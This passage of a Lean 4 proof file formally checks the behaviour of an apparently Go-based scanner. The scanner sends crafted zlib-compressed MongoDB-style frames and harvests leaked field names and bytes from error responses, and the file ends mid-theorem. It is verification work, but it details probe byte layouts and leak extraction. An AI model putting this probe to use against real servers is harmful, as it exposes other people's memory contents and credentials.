  have hb : (bson d).take 4 = le32OfInt d := by simp [bson, le32OfInt, le32]
  refine ⟨?_, ?_, hb, ?_, ?_⟩
  · simp [opMsg, bson, content, le32]; decide
  · simp [opMsg, bson, le32OfInt, le32, content]
  · rw [hb, le32OfInt, uint32LE_le32, Nat.mod_eq_of_lt (int32Bits_lt _)]
    exact int32OfBits_int32Bits d hd
  · simp [bson, le32OfInt, le32, content]

theorem C8_plaintext_witness :
    (-2147483648 ≤ (8192 : Int) ∧ (8192 : Int) < 2147483648)
      ∧ opMsg 8192 = [0, 0, 0, 0, 0, 0x00, 0x20, 0, 0, 0x10, 0x61, 0x00, 0x01, 0x00, 0x00, 0x00]
      ∧ int32OfBits (uint32LE ((bson 8192).take 4)) = 8192
      ∧ (bson 8192).length = 11 :=
  ⟨by decide, (C8_plaintext_layout 8192 (by decide)).1.trans (by decide),
    (C8_plaintext_layout 8192 (by decide)).2.2.2.1, (C8_plaintext_layout 8192 (by decide)).2.2.2.2⟩


/-! ## Response decoding -/

theorem reslice_eq_none (r : Slice) (lo hi : Nat) :
    r.reslice lo hi = none ↔ (hi < lo ∨ r.cap < hi) := by
  unfold Slice.reslice
  split
  · simp; omega
  · simp; omega

theorem decodeResponse_panic (L : GoLib) (r : Slice) :
    decodeResponse L r = Decoded.panic
      ↔ (uint32LE (r.elems.take 4) < sliceStart r ∨ r.cap < uint32LE (r.elems.take 4)) := by
  unfold decodeResponse sliceStart
  by_cases hop : uint32LE ((r.elems.take 16).drop 12) = 2012 ∧ r.len ≥ 25
  · simp only [hop, and_self, if_true]
    cases hs : r.reslice 25 (uint32LE (r.elems.take 4)) with
    | none => simpa using (reslice_eq_none r 25 _).1 hs
    | some c =>
      have hne : ¬ (uint32LE (r.elems.take 4) < 25 ∨ r.cap < uint32LE (r.elems.take 4)) := by
        rw [← reslice_eq_none, hs]; simp
      rcases hd : decompressZlib L c with ⟨out, err⟩
      cases err <;> simp [hd, hne]
  · simp only [hop, if_false]
    cases hs : r.reslice 16 (uint32LE (r.elems.take 4)) with
    | none => simpa using (reslice_eq_none r 16 _).1 hs
    | some c =>
      have hne : ¬ (uint32LE (r.elems.take 4) < 16 ∨ r.cap < uint32LE (r.elems.take 4)) := by
        rw [← reslice_eq_none, hs]; simp
      simp [hne]

theorem extractLeaks_eq_none (L : GoLib) (r : Slice) :
    extractLeaks L r = none
      ↔ (25 ≤ r.len ∧
          (uint32LE (r.elems.take 4) < sliceStart r ∨ r.cap < uint32LE (r.elems.take 4))) := by
  unfold extractLeaks
  by_cases hlen : r.len < 25
  · simp [hlen]
  · rw [← decodeResponse_panic L r]
    simp only [hlen, if_false]
    have h25 : 25 ≤ r.len := by omega
    cases decodeResponse L r <;> simp [h25]

/-- Claim C2, as the code has it: `extractLeaks` does not clip the slice it
takes to the bytes received. For a response of at least 25 bytes it fails with
an out-of-range slice expression exactly when the `messageLength` field is
below the slice start (16, or 25 for opcode 2012) or above the capacity of the
buffer. It does so on a 25-byte response whose field holds 0, whatever the
capacity, and on the first 25 bytes of a response that announces 100 bytes,
with capacity 25 and with capacity 32. -/
theorem C2_extractLeaks_slice_out_of_range (L : GoLib) (r : Slice) (spare : List Byte) :
    (extractLeaks L r = none
        ↔ (25 ≤ r.len ∧
            (uint32LE (r.elems.take 4) < sliceStart r ∨ r.cap < uint32LE (r.elems.take 4))))
      ∧ extractLeaks L ⟨zeroLengthResponse, spare⟩ = none
      ∧ extractLeaks L (Slice.exact truncatedResponse) = none
      ∧ extractLeaks L ⟨truncatedResponse, [0, 0, 0, 0, 0, 0, 0]⟩ = none := by
  refine ⟨extractLeaks_eq_none L r, ?_, ?_, ?_⟩
  · rw [extractLeaks_eq_none]
    have h0 : (25 : Nat) ≤ zeroLengthResponse.length := by decide
    have h1 : uint32LE (zeroLengthResponse.take 4) = 0 := by decide
    have h2 : uint32LE ((zeroLengthResponse.take 16).drop 12) = 1 := by decide
    refine ⟨h0, Or.inl ?_⟩
    simp only [sliceStart, h1, h2]
    split <;> omega
  · rw [extractLeaks_eq_none]; decide
  · rw [extractLeaks_eq_none]; decide

/-- Claim C6: decoding what `sendProbe` encodes gives back the plaintext. When
the zlib reader inverts the zlib writer on the plaintext `opMsg`, the frame
carries opcode 2012, the slice from offset 25 to `messageLength` of the frame is
exactly the compressed buffer, and the compressed path of `extractLeaks`
arrives at the 16 plaintext bytes that were compressed. -/
theorem C6_encode_decode_roundtrip (L : GoLib) (docLen bufferSize : Int) (spare : List Byte)
    (hsize : 16 + 9 + (compressed L docLen).length < 4294967296)
    (hnew : L.zlibNewReader (compressed L docLen) = true)
    (hread : L.zlibReadFrom (compressed L docLen) = (opMsg docLen, false)) :
    uint32LE (((probeFrame L docLen bufferSize).take 16).drop 12) = 2012
      ∧ (Slice.mk (probeFrame L docLen bufferSize) spare).reslice 25
          (uint32LE ((probeFrame L docLen bufferSize).take 4)) = some (compressed L docLen)
      ∧ decompressZlib L (compressed L docLen) = (opMsg docLen, false)
      ∧ decodeResponse L ⟨probeFrame L docLen bufferSize, spare⟩ = Decoded.raw (opMsg docLen) := by
  have hop : uint32LE (((probeFrame L docLen bufferSize).take 16).drop 12) = 2012 := by
    rw [probeFrame_eq]; simp [le32]; decide
  have hlen := probeFrame_length L docLen bufferSize
  have hmsg : uint32LE ((probeFrame L docLen bufferSize).take 4)
      = (probeFrame L docLen bufferSize).length :=
    probeFrame_messageLength L docLen bufferSize hsize
  have hdrop : (probeFrame L docLen bufferSize).drop 25 = compressed L docLen := by
    rw [probeFrame_eq]; simp [le32, le32OfInt]
  have hsl : (Slice.mk (probeFrame L docLen bufferSize) spare).reslice 25
      (uint32LE ((probeFrame L docLen bufferSize).take 4)) = some (compressed L docLen) := by
    rw [hmsg]
    unfold Slice.reslice Slice.cap
    rw [if_pos ⟨by omega, by simp only [List.length_append]; omega⟩]
    rw [List.take_left, hdrop]
  have hdec : decompressZlib L (compressed L docLen) = (opMsg docLen, false) := by
    unfold decompressZlib; rw [hnew, if_pos rfl, hread]
  refine ⟨hop, hsl, hdec, ?_⟩
  unfold decodeResponse
  simp only
  rw [if_pos ⟨hop, by unfold Slice.len; simp only; omega⟩, hsl]
  simp only [hdec]

theorem C6_roundtrip_witness :
    decodeResponse refLib ⟨probeFrame refLib 20 520, []⟩ = Decoded.raw (opMsg 20) :=
  (C6_encode_decode_roundtrip refLib 20 520 [] (by decide) (by decide) (by decide)).2.2.2


/-! ## Deduplication -/

/-- The seen map that holds exactly the keys `ks`, in this order. -/
theorem mapGet_trueMap (ks : List (List Byte)) (k : List Byte) :
    mapGet (ks.map (fun x => (x, true))) k = decide (k ∈ ks) := by
  induction ks with
  | nil => simp [mapGet]
  | cons a ks ih =>
    by_cases h : a = k
    · subst h; simp [mapGet]
    · have h2 : ¬ k = a := fun e => h e.symm
      have hb : (a == k) = false := by simpa using h
      unfold mapGet at ih ⊢
      rw [List.map_cons, List.find?_cons]
      simp only [hb]
      rw [ih]; simp [h2]

theorem mapSet_trueMap_new (ks : List (List Byte)) (k : List Byte) (h : k ∉ ks) :
    mapSet (ks.map (fun x => (x, true))) k true = (ks ++ [k]).map (fun x => (x, true)) := by
  unfold mapSet
  have hany : (ks.map (fun x => (x, true))).any (fun e => e.1 == k) = false := by
    rw [Bool.eq_false_iff]
    intro hc
    rw [List.any_eq_true] at hc
    obtain ⟨e, he, hk⟩ := hc
    rw [List.mem_map] at he
    obtain ⟨x, hx, rfl⟩ := he
    simp at hk
    exact h (hk ▸ hx)
  simp [hany]

theorem mem_firstOccurrences {α : Type} [DecidableEq α] (l : List α) (x : α) :
    x ∈ firstOccurrences l ↔ x ∈ l := by
  induction l with
  | nil => simp [firstOccurrences]
  | cons a l ih =>
    simp only [firstOccurrences, List.mem_cons, List.mem_filter, ih]
    by_cases h : x = a <;> simp [h]

theorem nodup_firstOccurrences {α : Type} [DecidableEq α] (l : List α) :
    (firstOccurrences l).Nodup := by
  induction l with
  | nil => simp [firstOccurrences]
  | cons a l ih =>
    simp only [firstOccurrences, List.nodup_cons]
    exact ⟨by simp [List.mem_filter], ih.filter _⟩

theorem firstOccurrences_snoc {α : Type} [DecidableEq α] (l : List α) (x : α) :
    firstOccurrences (l ++ [x])
      = if x ∈ l then firstOccurrences l else firstOccurrences l ++ [x] := by
  induction l with
  | nil => simp [firstOccurrences]
  | cons a l ih =>
    rw [List.cons_append, firstOccurrences, ih]
    by_cases hxa : x = a
    · subst hxa
      by_cases hxl : x ∈ l <;> simp [hxl, List.filter_append, firstOccurrences]
    · by_cases hxl : x ∈ l <;> simp [hxl, hxa, List.filter_append, firstOccurrences]

theorem card_toFinset_eq_length_firstOccurrences {α : Type} [DecidableEq α] (l : List α) :
    l.toFinset.card = (firstOccurrences l).length := by
  rw [← List.toFinset_card_of_nodup (nodup_firstOccurrences l)]
  congr 1
  ext x
  simp [mem_firstOccurrences]

/-- A deduplication loop with an injective key keeps the first occurrences. -/
theorem foldl_dedupStep (key : List Byte → List Byte) (hkey : Function.Injective key)
    (input : List (List Byte)) :
    input.foldl (dedupStep key) ([], [])
      = ((firstOccurrences input).flatten,
          ((firstOccurrences input).map key).map (fun x => (x, true))) := by
  induction input using List.reverseRecOn with
  | nil => simp [firstOccurrences]
  | append_singleton l x ih =>
    rw [List.foldl_append, ih, firstOccurrences_snoc]
    simp only [List.foldl_cons, List.foldl_nil, dedupStep, mapGet_trueMap]
    have hmem : key x ∈ (firstOccurrences l).map key ↔ x ∈ l := by
      rw [List.mem_map]
      constructor
      · rintro ⟨y, hy, hxy⟩
        rw [← hkey hxy]; exact (mem_firstOccurrences l y).1 hy
      · intro hx; exact ⟨x, (mem_firstOccurrences l x).2 hx, rfl⟩
    by_cases hx : x ∈ l
    · simp [hx, hmem]
    · have hnot : key x ∉ (firstOccurrences l).map key := fun h => hx (hmem.1 h)
      simp only [hx, hnot, decide_False, Bool.not_false, if_true, if_false]
      rw [mapSet_trueMap_new _ _ hnot]
      simp

theorem recordLeak_dedup (L : GoLib) (st : ScanState) (data : List Byte) :
    ((recordLeak L st data).allLeaked, (recordLeak L st data).uniqueLeaks)
      = dedupStep goString (st.allLeaked, st.uniqueLeaks) data := by
  unfold recordLeak dedupStep
  by_cases h : mapGet st.uniqueLeaks (goString data) = true <;> simp [h]

theorem recordLeaks_dedup (L : GoLib) (leaks : List (List Byte)) (st : ScanState) :
    ((recordLeaks L st leaks).allLeaked, (recordLeaks L st leaks).uniqueLeaks)
      = leaks.foldl (dedupStep goString) (st.allLeaked, st.uniqueLeaks) := by
  induction leaks generalizing st with
  | nil => rfl
  | cons x xs ih =>
    unfold recordLeaks at ih ⊢
    rw [List.foldl_cons, List.foldl_cons, ih, recordLeak_dedup]

theorem foldl_recordLeaks_flatten (L : GoLib) (leakLists : List (List (List Byte)))
    (st : ScanState) :
    leakLists.foldl (recordLeaks L) st = recordLeaks L st leakLists.flatten := by
  induction leakLists generalizing st with
  | nil => rfl
  | cons l ls ih =>
    rw [List.foldl_cons, ih, List.flatten_cons]
    unfold recordLeaks
    rw [List.foldl_append]

theorem goString_injective : Function.Injective goString := fun _ _ h => h

/-- Claim C1: the deduplication loop of `main`, run from the empty state over
the fragment lists of successive probes, leaves in `allLeaked` the
concatenation, in discovery order, of the first occurrence of each distinct
byte sequence, and in `uniqueLeaks` as many keys as there are distinct byte
sequences; bytes are arbitrary. On the four fragments of `binaryData`, which
are not valid UTF-8, the buffer has 13 bytes. -/
theorem C1_dedup_first_occurrences (L : GoLib) (leakLists : List (List (List Byte))) :
    (leakLists.foldl (recordLeaks L) ScanState.initial).allLeaked
        = (firstOccurrences leakLists.flatten).flatten
      ∧ mapLen (leakLists.foldl (recordLeaks L) ScanState.initial).uniqueLeaks
        = leakLists.flatten.toFinset.card
      ∧ (recordLeaks L ScanState.initial binaryData).allLeaked
        = [0x00, 0x01, 0x02, 0x03, 0xff, 0xfe, 0xfd, 0x80, 0x81, 0x82, 0x83, 0x84, 0x85]
      ∧ mapLen (recordLeaks L ScanState.initial binaryData).uniqueLeaks = 2 := by
  have key : ∀ frags : List (List Byte),
      ((recordLeaks L ScanState.initial frags).allLeaked,
        (recordLeaks L ScanState.initial frags).uniqueLeaks)
      = ((firstOccurrences frags).flatten,
          ((firstOccurrences frags).map goString).map (fun x => (x, true))) := by
    intro frags
    rw [recordLeaks_dedup]
    exact foldl_dedupStep goString goString_injective frags
  have h1 := fun frags => congrArg Prod.fst (key frags)
  have h2 := fun frags => congrArg Prod.snd (key frags)
  simp only at h1 h2
  refine ⟨?_, ?_, ?_, ?_⟩
  · rw [foldl_recordLeaks_flatten, h1]
  · rw [foldl_recordLeaks_flatten, h2, card_toFinset_eq_length_firstOccurrences]
    simp [mapLen]
  · rw [h1]; decide
  · rw [h2]; decide


/-! ## Deduplication keys -/

theorem hextable_indexOf (n : Fin 16) : hextable.indexOf (hextable.getD n.val 0) = n.val := by
  revert n; decide

theorem hex_digits_injective (v w : Byte)
    (hhi : hextable.getD (v.val >>> 4) 0 = hextable.getD (w.val >>> 4) 0)
    (hlo : hextable.getD (v.val &&& 0x0f) 0 = hextable.getD (w.val &&& 0x0f) 0) : v = w := by
  have hs : ∀ u : Byte, u.val >>> 4 = u.val / 16 := fun u => Nat.shiftRight_eq_div_pow _ 4
  have ha : ∀ u : Byte, u.val &&& 0x0f = u.val % 16 := fun u =>
    Nat.and_pow_two_sub_one_eq_mod _ 4
  rw [hs, hs] at hhi
  rw [ha, ha] at hlo
  have hv := v.isLt
  have hw := w.isLt
  have e1 : hextable.indexOf (hextable.getD (v.val / 16) 0)
      = hextable.indexOf (hextable.getD (w.val / 16) 0) := by rw [hhi]
  have e2 : hextable.indexOf (hextable.getD (v.val % 16) 0)
      = hextable.indexOf (hextable.getD (w.val % 16) 0) := by rw [hlo]
  have a1 := hextable_indexOf ⟨v.val / 16, by omega⟩
  have a2 := hextable_indexOf ⟨w.val / 16, by omega⟩
  have a3 := hextable_indexOf ⟨v.val % 16, by omega⟩
  have a4 := hextable_indexOf ⟨w.val % 16, by omega⟩
  simp only at a1 a2 a3 a4
  rw [a1, a2] at e1
  rw [a3, a4] at e2
  apply Fin.ext
  omega

theorem encodeKey_injective : Function.Injective encodeKey := by
  intro x
  induction x with
  | nil =>
    intro y h
    cases y with
    | nil => rfl
    | cons w ys => simp [encodeKey] at h
  | cons v xs ih =>
    intro y h
    cases y with
    | nil => simp [encodeKey] at h
    | cons w ys =>
      simp only [encodeKey, List.cons.injEq] at h
      obtain ⟨h1, h2, h3⟩ := h
      rw [hex_digits_injective v w h1 h2, ih h3]

/-- Claim C9: both deduplication keys are injective functions of the bytes:
`encodeKey(x) = encodeKey(y)` exactly when `x = y`, and likewise for the key
`string(data)` of the seen map of `main`; so two distinct byte sequences never
share a key, valid UTF-8 or not (the byte `ff` and the three bytes `ef bf bd`
of the replacement character get different keys of either kind). -/
theorem C9_dedup_keys_injective (x y : List Byte) :
    (encodeKey x = encodeKey y ↔ x = y)
      ∧ (goString x = goString y ↔ x = y)
      ∧ encodeKey [0xff] ≠ encodeKey [0xef, 0xbf, 0xbd]
      ∧ goString [0xff] ≠ goString [0xef, 0xbf, 0xbd] :=
  ⟨⟨fun h => encodeKey_injective h, fun h => h ▸ rfl⟩,
    ⟨fun h => goString_injective h, fun h => h ▸ rfl⟩, by decide, by decide⟩

/-- Claim C10, refuted as stated: on `mixedData` the hex-keyed loop does not
leave a buffer of 17 bytes. -/
theorem C10_mixedData_buffer_not_17 : ¬ ((newApproach mixedData).1.length = 17) := by
  decide

/-- Claim C10, amended: the first two fragments of `mixedData` are the same
four bytes (the text `test` is the bytes 74 65 73 74), so the hex-keyed loop
keeps the first and drops the second; the buffer is the 13 bytes of
`testdifferent` and the seen map has 2 keys. -/
theorem C10_mixedData_buffer_is_13 :
    ascii "test" = [0x74, 0x65, 0x73, 0x74]
      ∧ (newApproach mixedData).1 = ascii "testdifferent"
      ∧ (newApproach mixedData).1.length = 13
      ∧ mapLen (newApproach mixedData).2 = 2 := by
  decide


/-! ## Leak extraction -/

theorem stripLit_eq_some (lit s r : List Byte) : stripLit lit s = some r ↔ s = lit ++ r := by
  induction lit generalizing s with
  | nil => simp [stripLit, eq_comm]
  | cons a lit ih =>
    cases s with
    | nil => simp [stripLit]
    | cons b s =>
      by_cases h : a = b
      · subst h; simp [stripLit, ih]
      · have h2 : ¬ b = a := fun e => h e.symm
        simp [stripLit, h, h2]

theorem fieldMatchAt_eq_some (s X rest : List Byte) :
    fieldMatchAt s = some (X, rest) ↔ (quote ∉ X ∧ s = fieldOpen ++ X ++ quote :: rest) := by
  unfold fieldMatchAt
  constructor
  · intro h
    cases hs : stripLit fieldOpen s with
    | none => rw [hs] at h; simp at h
    | some r0 =>
      rw [hs] at h
      simp only at h
      have hsplit := List.takeWhile_append_dropWhile (fun b => decide (b ≠ quote)) r0
      cases hd : r0.dropWhile (fun b => decide (b ≠ quote)) with
      | nil => rw [hd] at h; simp at h
      | cons q after =>
        rw [hd] at h
        simp only [Option.some.injEq, Prod.mk.injEq] at h
        obtain ⟨hX, hrest⟩ := h
        have hq : q = quote := by
          have hne : r0.dropWhile (fun b => decide (b ≠ quote)) ≠ [] := by rw [hd]; simp
          have := List.head_dropWhile_not (fun b => decide (b ≠ quote)) r0 hne
          simp only [hd, List.head_cons] at this
          simpa using this
        refine ⟨?_, ?_⟩
        · intro hmem
          rw [← hX] at hmem
          have := List.mem_takeWhile_imp hmem
          simp at this
        · rw [(stripLit_eq_some _ _ _).1 hs, ← hsplit, hd, hX, hq, hrest, List.append_assoc]
  · rintro ⟨hX, rfl⟩
    have hs : stripLit fieldOpen (fieldOpen ++ X ++ quote :: rest) = some (X ++ quote :: rest) := by
      rw [stripLit_eq_some, List.append_assoc]
    have hall : ∀ a ∈ X, (fun b => decide (b ≠ quote)) a = true := by
      intro a ha
      have : a ≠ quote := fun e => hX (e ▸ ha)
      simpa using this
    rw [hs]
    simp only
    rw [List.dropWhile_append_of_pos hall, List.takeWhile_append_of_pos hall]
    simp [List.dropWhile_cons, List.takeWhile_cons]

theorem fieldMatchAt_shrinks (s X rest : List Byte) (h : fieldMatchAt s = some (X, rest)) :
    rest.length < s.length := by
  obtain ⟨_, rfl⟩ := (fieldMatchAt_eq_some s X rest).1 h
  simp
  omega

theorem typeMatchAt_shrinks (s tok rest : List Byte) (h : typeMatchAt s = some (tok, rest)) :
    rest.length < s.length := by
  unfold typeMatchAt at h
  cases hs : stripLit typeOpen s with
  | none => rw [hs] at h; simp at h
  | some r0 =>
    rw [hs] at h
    simp only at h
    have hsplit := List.takeWhile_append_dropWhile isDigit r0
    cases ht : r0.takeWhile isDigit with
    | nil => rw [ht] at h; simp at h
    | cons d ds =>
      rw [ht] at h hsplit
      simp only [Option.some.injEq, Prod.mk.injEq] at h
      have hlen := congrArg List.length hsplit
      rw [(stripLit_eq_some _ _ _).1 hs, ← h.2]
      simp only [List.length_append, List.length_cons] at hlen ⊢
      omega

/-- Once the fuel exceeds the length of the input, more fuel changes nothing. -/
theorem findAllAux_fuel (m : List Byte → Option (List Byte × List Byte))
    (hm : ∀ s X rest, m s = some (X, rest) → rest.length < s.length) :
    ∀ (f1 f2 : Nat) (s : List Byte), s.length < f1 → s.length < f2 →
      findAllAux m f1 s = findAllAux m f2 s := by
  intro f1
  induction f1 with
  | zero => intro f2 s h; omega
  | succ f1 ih =>
    intro f2 s h1 h2
    cases f2 with
    | zero => omega
    | succ f2 =>
      cases hms : m s with
      | some p =>
        obtain ⟨X, rest⟩ := p
        have := hm s X rest hms
        simp only [findAllAux, hms]
        rw [ih f2 rest (by omega) (by omega)]
      | none =>
        cases s with
        | nil => simp only [findAllAux, hms]
        | cons b t =>
          simp only [List.length_cons] at h1 h2
          simp only [findAllAux, hms]
          rw [ih f2 t (by omega) (by omega)]

theorem findAllAux_hit (m : List Byte → Option (List Byte × List Byte)) (fuel : Nat)
    (s X rest : List Byte) (h : m s = some (X, rest)) :
    findAllAux m (fuel + 1) s = X :: findAllAux m fuel rest := by
  simp only [findAllAux, h]

theorem findAll_nil (m : List Byte → Option (List Byte × List Byte)) (h : m [] = none) :
    findAll m [] = [] := by
  simp [findAll, findAllAux, h]

theorem findAll_hit (m : List Byte → Option (List Byte × List Byte))
    (hm : ∀ s X rest, m s = some (X, rest) → rest.length < s.length)
    (s X rest : List Byte) (h : m s = some (X, rest)) :
    findAll m s = X :: findAll m rest := by
  have := hm s X rest h
  unfold findAll
  rw [findAllAux_hit m _ s X rest h,
    findAllAux_fuel m hm s.length (rest.length + 1) rest (by omega) (by omega)]

theorem findAll_skip (m : List Byte → Option (List Byte × List Byte))
    (b : Byte) (t : List Byte) (h : m (b :: t) = none) :
    findAll m (b :: t) = findAll m t := by
  unfold findAll
  simp only [findAllAux, h, List.length_cons]

theorem fieldOccurrences_findAll (s : List Byte) :
    FieldOccurrences s (findAll fieldMatchAt s) := by
  generalize hn : s.length = n
  induction n using Nat.strong_induction_on generalizing s with
  | _ n ih =>
    cases hms : fieldMatchAt s with
    | some p =>
      obtain ⟨X, rest⟩ := p
      rw [findAll_hit fieldMatchAt fieldMatchAt_shrinks s X rest hms]
      have hlt := fieldMatchAt_shrinks s X rest hms
      obtain ⟨hX, rfl⟩ := (fieldMatchAt_eq_some s X rest).1 hms
      exact FieldOccurrences.hit X rest _ hX (ih rest.length (hn ▸ hlt) rest rfl)
    | none =>
      cases s with
      | nil =>
        rw [findAll_nil fieldMatchAt hms]
        exact FieldOccurrences.done
      | cons b t =>
        rw [findAll_skip fieldMatchAt b t hms]
        refine FieldOccurrences.skip b t _ ?_ (ih t.length (by rw [← hn]; simp) t rfl)
        intro X rest hX heq
        have := (fieldMatchAt_eq_some (b :: t) X rest).2 ⟨hX, heq⟩
        rw [hms] at this
        simp at this

theorem fieldOccurrences_unique (s : List Byte) (occ : List (List Byte))
    (h : FieldOccurrences s occ) : occ = findAll fieldMatchAt s := by
  induction h with
  | done => rw [findAll_nil fieldMatchAt (by decide)]
  | hit X rest out hX _ ih =>
    rw [findAll_hit fieldMatchAt fieldMatchAt_shrinks _ X rest
      ((fieldMatchAt_eq_some _ X rest).2 ⟨hX, rfl⟩), ih]
  | skip b t out hno _ ih =>
    have hnone : fieldMatchAt (b :: t) = none := by
      cases hms : fieldMatchAt (b :: t) with
      | none => rfl
      | some p =>
        obtain ⟨X, rest⟩ := p
        obtain ⟨hX, heq⟩ := (fieldMatchAt_eq_some _ X rest).1 hms
        exact absurd heq (hno X rest hX)
    rw [findAll_skip fieldMatchAt b t hnone, ih]

theorem isCommonField_iff (X : List Byte) :
    isCommonField X = true ↔ X ∈ [ascii "?", ascii "a", ascii "$db", ascii "ping"] := by
  simp only [isCommonField, commonFields, isCommonFieldLoop, List.mem_cons, List.mem_singleton,
    List.not_mem_nil, or_false]
  by_cases h1 : X = ascii "?"
  · simp [h1]
  · by_cases h2 : X = ascii "a"
    · simp [h2]
    · by_cases h3 : X = ascii "$db"
      · simp [h3]
      · by_cases h4 : X = ascii "ping" <;> simp [h1, h2, h3, h4]

/-- On a response with a correct `messageLength` and an opcode other than 2012,
`extractLeaks` scans the bytes from offset 16 on. -/
theorem extractLeaks_wellFormed (L : GoLib) (r spare : List Byte) (h25 : 25 ≤ r.length)
    (hmsg : uint32LE (r.take 4) = r.length) (hop : uint32LE ((r.take 16).drop 12) ≠ 2012) :
    extractLeaks L ⟨r, spare⟩ = some (scanLeaks (r.drop 16)) := by
  unfold extractLeaks decodeResponse
  have hlen : ¬ (Slice.mk r spare).len < 25 := by simp [Slice.len]; omega
  rw [if_neg hlen]
  simp only
  rw [if_neg (fun h => hop h.1), hmsg]
  unfold Slice.reslice Slice.cap
  rw [if_pos ⟨by omega, by simp only; omega⟩]
  simp only [List.take_left]


theorem sscanfByte_val (tok : List Byte) :
    (sscanfByte tok).val = if decimalValue tok < 256 then decimalValue tok else 0 := by
  unfold sscanfByte
  simp only
  by_cases h : decimalValue tok < 256
  · have h64 : decimalValue tok < 18446744073709551616 := by omega
    rw [if_pos h64, if_pos (Nat.mod_eq_of_lt h), if_pos h]
    simp [byteOf, Nat.mod_eq_of_lt h]
  · rw [if_neg h]
    by_cases h64 : decimalValue tok < 18446744073709551616
    · rw [if_pos h64, if_neg (by omega)]; rfl
    · rw [if_neg h64]; rfl

/-- Claim C3, as the code has it: a number above 255 after `type ` is not
reduced modulo 256. `Sscanf` into a `byte` fails on overflow and leaves the
byte 0, so the well-formed uncompressed response with payload
`unknown type 300` yields the single fragment `00`, not `2c` (44 = 300 mod 256).
In general the byte scanned is the number when it is below 256 and 0
otherwise. -/
theorem C3_type_300_yields_zero_byte (L : GoLib) (spare tok : List Byte) :
    extractLeaks L ⟨plainResponse (ascii "unknown type 300"), spare⟩ = some [[0]]
      ∧ byteOf (300 % 256) = 44
      ∧ (sscanfByte tok).val = (if decimalValue tok < 256 then decimalValue tok else 0) := by
  refine ⟨?_, by decide, sscanfByte_val tok⟩
  rw [extractLeaks_wellFormed L _ spare (by decide) (by decide) (by decide)]
  decide

/-- Claim C4: on a well-formed uncompressed response (at least 25 bytes,
`messageLength` equal to the buffer length, opcode other than 2012) the matches
of the field-name pass are the non-overlapping occurrences of `field name 'X'`
in the bytes from offset 16 on, read left to right, with `X` the bytes up to
the next quote; `extractLeaks` emits the `X` of an occurrence, unchanged and in
this order, exactly when `X` is not empty and is none of `?`, `a`, `$db`,
`ping` (the type-byte fragments follow them); and `isCommonField` holds of
exactly these four values. -/
theorem C4_field_name_pass (L : GoLib) (r spare : List Byte) (X : List Byte)
    (h25 : 25 ≤ r.length) (hmsg : uint32LE (r.take 4) = r.length)
    (hop : uint32LE ((r.take 16).drop 12) ≠ 2012) :
    FieldOccurrences (r.drop 16) (findAll fieldMatchAt (r.drop 16))
      ∧ (∀ occ, FieldOccurrences (r.drop 16) occ → occ = findAll fieldMatchAt (r.drop 16))
      ∧ extractLeaks L ⟨r, spare⟩
          = some ((findAll fieldMatchAt (r.drop 16)).filter
                (fun Y => decide (Y ≠ [] ∧ Y ∉ [ascii "?", ascii "a", ascii "$db", ascii "ping"]))
              ++ typeLeaks (r.drop 16))
      ∧ (isCommonField X = true ↔ X ∈ [ascii "?", ascii "a", ascii "$db", ascii "ping"]) := by
  refine ⟨fieldOccurrences_findAll _, fun occ h => fieldOccurrences_unique _ occ h, ?_,
    isCommonField_iff X⟩
  rw [extractLeaks_wellFormed L r spare h25 hmsg hop]
  unfold scanLeaks fieldLeaks
  congr 2
  apply List.filter_congr
  intro Y _
  have hc := isCommonField_iff Y
  by_cases hY : isCommonField Y = true
  · have hm := hc.1 hY
    simp only [hY, Bool.not_true, Bool.and_false]
    symm
    rw [decide_eq_false_iff_not]
    exact fun h => h.2 hm
  · have hm : Y ∉ [ascii "?", ascii "a", ascii "$db", ascii "ping"] := fun h => hY (hc.2 h)
    have hf : isCommonField Y = false := by simpa using hY
    simp only [hf, Bool.not_false, Bool.and_true]
    cases Y with
    | nil => simp
    | cons y ys =>
      have : decide ((y :: ys).length > 0) = true := by simp
      rw [this]
      symm
      rw [decide_eq_true_iff]
      exact ⟨by simp, hm⟩

theorem C4_field_name_pass_witness :
    extractLeaks refLib ⟨plainResponse (ascii "bad field name " ++ [quote] ++ ascii "adminuser"
        ++ [quote] ++ ascii ", field name " ++ [quote] ++ ascii "$db" ++ [quote]), []⟩
      = some [ascii "adminuser"] :=
  (C4_field_name_pass refLib (plainResponse (ascii "bad field name " ++ [quote]
      ++ ascii "adminuser" ++ [quote] ++ ascii ", field name " ++ [quote] ++ ascii "$db"
      ++ [quote])) [] [] (by decide) (by decide) (by decide)).2.2.1.trans (by decide)


/-! ## Short, decoded and undecodable responses -/

/-- Claim C13: on every response of fewer than 25 bytes (so on every buffer
shorter than the 16-byte header, and on the empty buffer) `extractLeaks`
returns no fragments and does not fail, whatever the buffer holds and whatever
its capacity. -/
theorem C13_short_response_no_fragments (L : GoLib) (r : Slice) (hshort : r.len < 25) :
    extractLeaks L r = some [] := by
  unfold extractLeaks
  rw [if_pos hshort]

theorem C13_short_response_witness :
    extractLeaks refLib ⟨[], []⟩ = some []
      ∧ extractLeaks refLib ⟨[0xff, 0xff, 0xff, 0xff, 0x01], [7, 7]⟩ = some []
      ∧ extractLeaks refLib (Slice.exact (truncatedResponse.take 24)) = some [] :=
  ⟨C13_short_response_no_fragments refLib ⟨[], []⟩ (by decide),
    C13_short_response_no_fragments refLib ⟨[0xff, 0xff, 0xff, 0xff, 0x01], [7, 7]⟩ (by decide),
    C13_short_response_no_fragments refLib (Slice.exact (truncatedResponse.take 24)) (by decide)⟩

theorem extractLeaks_of_raw (L : GoLib) (r : Slice) (raw : List Byte) (h25 : 25 ≤ r.len)
    (hraw : decodeResponse L r = Decoded.raw raw) :
    extractLeaks L r = some (scanLeaks raw) := by
  unfold extractLeaks
  rw [if_neg (by omega), hraw]

/-- Claim C16: whenever `extractLeaks` arrives at a decoded payload `raw`, the
list it returns is the field names kept (the matches of the field-name
expression in `raw` in match order, without the empty and the common ones)
followed by the type bytes (one per match of the type expression in the same
`raw`, in match order): every field-name fragment comes before every
type-byte fragment. -/
theorem C16_field_then_type_order (L : GoLib) (r : Slice) (raw : List Byte) (h25 : 25 ≤ r.len)
    (hraw : decodeResponse L r = Decoded.raw raw) :
    extractLeaks L r
        = some ((findAll fieldMatchAt raw).filter
              (fun data => decide (data.length > 0) && !isCommonField data)
            ++ (findAll typeMatchAt raw).map
              (fun tok => [byteOf ((sscanfByte tok).val &&& 0xFF)]))
      ∧ (∀ leaks, extractLeaks L r = some leaks →
          leaks.take (fieldLeaks raw).length = fieldLeaks raw
            ∧ leaks.drop (fieldLeaks raw).length = typeLeaks raw) := by
